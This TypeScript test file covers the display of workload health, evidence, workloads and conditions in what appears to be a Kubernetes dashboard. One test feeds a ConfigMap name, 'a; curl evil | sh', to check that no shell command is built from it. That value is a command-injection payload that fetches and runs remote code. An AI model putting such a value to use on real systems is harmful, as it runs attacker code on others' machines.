import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { conditionViews } from './conditions.ts';
import { evidenceViews, healthBadge, healthView } from './health.ts';
import { workloadsView } from './workloads.ts';

const nowMs = Date.parse('2026-11-24T10:00:00Z');

describe('a verdict', () => {
  it('is good only when it is Healthy and known now', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.constantFrom('healthy', 'toString', '__proto__', 'Ready')), (verdict) => {
        expect(healthBadge(verdict).tone === 'good').toBe(verdict === 'Healthy');
      }),
    );
    expect(healthBadge('Healthy').tone).toBe('good');
  });

  it('that nobody knows the meaning of reads Unknown', () => {
    expect(healthBadge('Superb', 'NewRule')).toEqual({
      tone: 'unknown',
      word: 'Unknown',
      icon: 'unknown',
      reason: 'NewRule',
    });
  });

  it('does not repeat itself as its reason', () => {
    expect(healthBadge('Healthy', 'Ready').reason).toBeUndefined();
    expect(healthBadge('Suspended', 'Suspended').reason).toBeUndefined();
    expect(healthBadge('Degraded', 'CrashLoop').reason).toBe('CrashLoop');
  });
});

describe('the health card', () => {
  const health = {
    verdict: 'Healthy' as const,
    reason: 'Ready',
    message: 'Deployment a: 3 of 3 replicas are ready.',
    since: '2026-11-24T09:00:00Z',
  };

  it('of what is not known now names what it was, in words without a colour', () => {
    const { verdict, reason, message, since } = health;
    const lost = {
      verdict: 'Unknown' as const,
      reason: 'Stale',
      message: 'Pods cannot be read.',
      since: '2026-11-24T09:58:00Z',
    };
    expect(healthView({ ...lost, lastKnown: { verdict, reason, message, since } }, nowMs)).toMatchObject({
      badge: { tone: 'unknown', word: 'Unknown', reason: 'Stale' },
      message: 'Pods cannot be read.',
      since: { words: '2 min ago' },
      lastKnown: { words: 'Healthy, Ready', message, since: { words: '1 h ago' } },
    });
    expect(healthView(health, nowMs).lastKnown).toBeUndefined();
  });

  it('says what to do and with which command', () => {
    const nextStep = { text: 'Raise the memory limit.', command: 'kubectl describe pod a-1 -n n' };
    expect(healthView({ ...health, nextStep }, nowMs).nextStep).toEqual(nextStep);
    expect(healthView(health, nowMs).nextStep).toBeUndefined();
  });

  it('names what the verdict was reached without', () => {
    const gaps = [{ kind: 'Service', namespace: 'n', name: 'web', reason: 'Forbidden' }];
    expect(healthView({ ...health, gaps }, nowMs).gaps).toEqual([
      { object: 'Service web', reason: 'Forbidden', explanation: expect.stringContaining('may not read') },
    ]);
    const [gap] = healthView({ ...health, gaps: [{ kind: 'Ingress', namespace: 'n', reason: 'New' }] }, nowMs).gaps;
    expect(gap).toEqual({ object: 'Ingress', reason: 'New', explanation: undefined });
  });

  it('leads from the workload to the container with a command for each object', () => {
    const evidence = [{ kind: 'Pod', namespace: 'n', name: 'a-1', container: 'app', reason: 'OOMKilled' }];
    const view = healthView({ ...health, verdict: 'Degraded', reason: 'OOMKilled', evidence, more: 4 }, nowMs);
    expect(view.more).toBe(4);
    expect(view.evidence).toEqual([
      {
        key: 'evidence/Pod/n/a-1/app',
        object: 'Pod a-1',
        namespace: 'n',
        container: 'app',
        reason: 'OOMKilled',
        message: undefined,
        explanation: 'The container used more memory than its limit and was stopped.',
        command: 'kubectl describe pod a-1 -n n',
      },
    ]);
  });
});

describe('the command of a piece of evidence', () => {
  const commandFor = (object: { kind: string; namespace: string; name: string }) =>
    evidenceViews([{ ...object, reason: 'X' }], 'evidence')[0]?.command;

  it('names no namespace for what has none', () => {
    expect(commandFor({ kind: 'Node', namespace: '', name: 'n1' })).toBe('kubectl describe node n1');
  });

  it('is not there where a name would mean more to a shell', () => {
    expect(commandFor({ kind: 'ConfigMap', namespace: 'n', name: 'a; curl evil | sh' })).toBeUndefined();
    expect(commandFor({ kind: 'ConfigMap', namespace: 'n', name: '--all' })).toBeUndefined();
  });
});

describe('workloads', () => {
  it('are counted as last known beside a verdict that is', () => {
    const item = {
      kind: 'Deployment',
      namespace: 'n',
      name: 'a',
      link: 'Label' as const,
      desired: 1,
      ready: 1,
      verdict: 'Unknown' as const,
      reason: 'Stale',
    };
    const lastKnown = { verdict: 'Healthy' as const, reason: 'Ready', message: '', since: '2026-11-24T09:00:00Z' };
    const health = { verdict: 'Unknown' as const, reason: 'Stale', message: '', since: lastKnown.since, lastKnown };
    const view = workloadsView({ total: 1, desired: 1, ready: 1, items: [item] }, health);
    expect(view.rows[0]?.badge.word).toBe('Unknown');
    expect(view.readiness).toBe('Last known: 1 of 1 replicas ready');
    expect(view.rows[0]?.link).toBe('Label on the workload');
  });
});

describe('what only supports', () => {
  it('stands apart from what runs', () => {
    const counts = { namespace: 'n', name: 'a', link: 'Name' as const, desired: 1, ready: 1 };
    const well = { ...counts, verdict: 'Healthy' as const, reason: 'Ready' };
    const items = [
      { kind: 'Service', supporting: true, ...well },
      { kind: 'Deployment', ...well },
    ];
    const view = workloadsView({ total: 2, desired: 1, ready: 1, items });
    expect(view.rows.map(({ kind }) => kind)).toEqual(['Deployment']);
    expect(view.supporting.map(({ kind }) => kind)).toEqual(['Service']);
  });
});

describe('a workload that could not be read', () => {
  it('has no counts that could be taken for scaled to zero', () => {
    const item = { kind: 'DaemonSet', namespace: 'n', name: 'a', link: 'Spec' as const, desired: 0, ready: 0 };
    const unread = { ...item, verdict: 'Unknown' as const, reason: 'Forbidden' };
    const view = workloadsView({ total: 1, desired: 0, ready: 0, items: [unread] });
    expect(view).toMatchObject({ readiness: undefined, rows: [{ ready: 'unknown' }] });
    const scaled = { ...item, verdict: 'Suspended' as const, reason: 'ScaledToZero' };
    expect(workloadsView({ total: 1, desired: 0, ready: 0, items: [scaled] }).rows[0]?.ready).toBe('0/0');
  });
});

describe('conditions', () => {
  const lastTransitionTime = '2026-11-24T09:00:00Z';
  const base = { message: 'm', lastTransitionTime };

  it('are said in words, the known ones first', () => {
    const views = conditionViews(
      [
        { type: 'Reviewed', status: 'Unknown', reason: 'Later', ...base },
        { type: 'RefsResolved', status: 'False', reason: 'DanglingRefs', ...base },
        { type: 'Ready', status: 'False', reason: 'Conflict', ...base },
      ],
      nowMs,
    );
    expect(views.map((view) => [view.title, view.tone, view.since?.words])).toEqual([
      ['Another, older object already has this name', 'bad', '1 h ago'],
      ['It refers to something that does not exist', 'bad', '1 h ago'],
      ['Reviewed is Unknown', 'unknown', '1 h ago'],
    ]);
  });

  it('that are Unknown never look like True', () => {
    const [view] = conditionViews([{ type: 'Ready', status: 'Unknown', reason: 'X', ...base }], nowMs);
    expect(view?.tone).toBe('unknown');
  });
});
